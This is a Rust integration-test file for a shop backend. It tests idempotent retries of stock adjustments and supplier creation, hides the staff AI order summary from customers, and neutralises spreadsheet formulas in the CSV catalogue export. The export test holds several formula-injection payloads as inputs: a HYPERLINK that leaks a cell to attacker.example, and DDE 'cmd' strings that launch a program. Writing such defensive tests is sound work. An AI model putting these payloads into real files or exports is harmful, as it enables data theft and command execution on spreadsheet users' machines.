//! Contract gaps (issue 12, items 9 and 10), attacked through the gateway of a real cluster:
//! a retried stock adjustment or supplier create takes effect once, a key reused for another
//! request is 422, a customer never reads the staff summary of an order, and formula cells
//! in the catalogue export are neutralised.

use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{json, Value};
use testkit::{
    fake_ai::{Behaviour, FakeAi},
    process::Cluster,
    Api, Reply,
};

async fn post_keyed(api: &Api, path: &str, key: &str, body: &Value) -> Reply {
    Api::send(
        api.request(Method::POST, path)
            .header("idempotency-key", key)
            .json(body),
    )
    .await
}

/// Polls `until` with a deadline of 15 s; the last reply.
async fn eventually(api: &Api, path: &str, until: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let body = api.get(path).await.expect(200).body;
        if until(&body) {
            return body;
        }
        assert!(Instant::now() < deadline, "{path} never got there: {body}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run by make test-reliability"]
async fn retried_adjustments_and_supplier_creates_take_effect_once() {
    let cluster = Cluster::start(&[]).await;
    let staff = cluster.sign_up(Cluster::ADMIN_EMAIL).await;
    let product = Cluster::product(&staff, "RETRY-1", 100, 10).await;

    // A client whose answer was lost retries: once in turn, then ten times at once.
    let adjustment = json!({"product_id": product, "delta": 5, "reason": "received"});
    let first = post_keyed(
        &staff,
        "/api/inventory/adjustments",
        "grn-0042",
        &adjustment,
    )
    .await
    .expect(201);
    let retries = (0..10).map(|_| {
        post_keyed(
            &staff,
            "/api/inventory/adjustments",
            "grn-0042",
            &adjustment,
        )
    });
    for retry in futures::future::join_all(retries).await {
        let retry = retry.expect(201);
        assert_eq!(retry.body["movement"]["id"], first.body["movement"]["id"]);
        assert_eq!(retry.header("idempotent-replayed"), Some("true"));
    }
    let now = staff
        .get(&format!("/api/products/{product}"))
        .await
        .expect(200);
    assert_eq!(now.body["on_hand"], 15, "applied once, not eleven times");

    // The same key with another body is refused, and changes nothing.
    let other = json!({"product_id": product, "delta": 500, "reason": "received"});
    let refused = post_keyed(&staff, "/api/inventory/adjustments", "grn-0042", &other)
        .await
        .expect_problem(422);
    assert_eq!(refused.body["errors"][0]["field"], "Idempotency-Key");
    let now = staff
        .get(&format!("/api/products/{product}"))
        .await
        .expect(200);
    assert_eq!(now.body["on_hand"], 15);

    let supplier = json!({"name": "Leaf & Co", "lead_time_days": 4});
    let made = post_keyed(&staff, "/api/suppliers", "supplier-7", &supplier)
        .await
        .expect(201);
    let retries = (0..5).map(|_| post_keyed(&staff, "/api/suppliers", "supplier-7", &supplier));
    for retry in futures::future::join_all(retries).await {
        assert_eq!(retry.expect(201).body["id"], made.body["id"]);
    }
    let suppliers = staff.get("/api/suppliers").await.expect(200);
    assert_eq!(
        suppliers.body["items"].as_array().map(Vec::len),
        Some(1),
        "no duplicate suppliers: {}",
        suppliers.text
    );
    post_keyed(
        &staff,
        "/api/suppliers",
        "supplier-7",
        &json!({"name": "Other"}),
    )
    .await
    .expect_problem(422);
    // An oversized key is refused before anything happens.
    post_keyed(&staff, "/api/suppliers", &"k".repeat(256), &supplier)
        .await
        .expect_problem(400);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run by make test-reliability"]
async fn a_customer_sees_the_customer_message_never_the_staff_summary() {
    let fake = FakeAi::start(Behaviour::Fast).await;
    let cluster = Cluster::start(&[
        ("OPENROUTER_API_KEY", "test-key"),
        ("AI_BASE_URL", fake.url.as_str()),
        ("AI_MODEL", "fake/model-1"),
    ])
    .await;
    let staff = cluster.sign_up(Cluster::ADMIN_EMAIL).await;
    let customer = cluster.sign_up("shopper@example.com").await;
    let product = Cluster::product(&staff, "SUM-1", 250, 5).await;
    let order = customer
        .post(
            "/api/orders",
            json!({"lines": [{"product_id": product, "quantity": 2}], "note": "ring twice"}),
        )
        .await
        .expect(201)
        .body;
    let id = order["id"].as_str().expect("an order id");
    let path = format!("/api/orders/{id}");
    let for_staff = eventually(&staff, &path, |o| o["ai_summary"]["status"] == "ready").await;
    assert!(for_staff["ai_summary"]["text"].is_string(), "{for_staff}");

    let check = |order: &Value| {
        let summary = &order["ai_summary"];
        assert!(summary["text"].is_null(), "staff summary leaked: {summary}");
        assert_eq!(summary["customer_message"], "Thank you for your order!");
    };
    check(&customer.get(&path).await.expect(200).body);
    check(&customer.get("/api/orders").await.expect(200).body["items"][0]);
    check(
        &customer
            .post(
                &format!("{path}/cancel"),
                json!({"reason": "changed my mind"}),
            )
            .await
            .expect(200)
            .body,
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "run by make test-reliability"]
async fn formula_cells_are_neutralised_in_the_catalogue_export() {
    let cluster = Cluster::start(&[]).await;
    let staff = cluster.sign_up(Cluster::ADMIN_EMAIL).await;
    let payloads = [
        "=HYPERLINK(\"http://attacker.example/?leak=\"&B2,\"Invoice\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (i, name) in payloads.iter().enumerate() {
        staff
            .post(
                "/api/products",
                json!({"sku": format!("CSV-{i}"), "name": name, "category": name,
                       "description": name, "price_cents": 100, "initial_stock": 1}),
            )
            .await
            .expect(201);
    }
    let export = Api::send(staff.request(Method::GET, "/api/products/export"))
        .await
        .expect(200);
    for payload in payloads {
        // Every cell holding the payload starts with the neutralising quote.
        let quoted = format!("'{payload}").replace('"', "\"\"");
        assert!(
            export.text.contains(&format!("\"{quoted}\"")) || export.text.contains(&quoted),
            "{payload} not neutralised in:\n{}",
            export.text
        );
        for line in export.text.lines() {
            for trigger in ['=', '+', '-', '@'] {
                assert!(
                    !line.starts_with(trigger) && !line.contains(&format!(",{trigger}")),
                    "a cell starts with {trigger}: {line}"
                );
                assert!(
                    !line.contains(&format!(",\"{trigger}")),
                    "a quoted cell starts with {trigger}: {line}"
                );
            }
        }
    }
    // Importing the export back restores the names exactly.
    Api::send(
        staff
            .request(Method::POST, "/api/products/import")
            .header("content-type", "text/csv")
            .body(export.text.clone()),
    )
    .await
    .expect(200);
    let listed = staff
        .get("/api/products?q=CSV-&limit=100")
        .await
        .expect(200);
    let mut names: Vec<&str> = listed.body["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|p| p["name"].as_str())
        .collect();
    names.sort_unstable();
    let mut expected = payloads.to_vec();
    expected.sort_unstable();
    assert_eq!(names, expected);
}
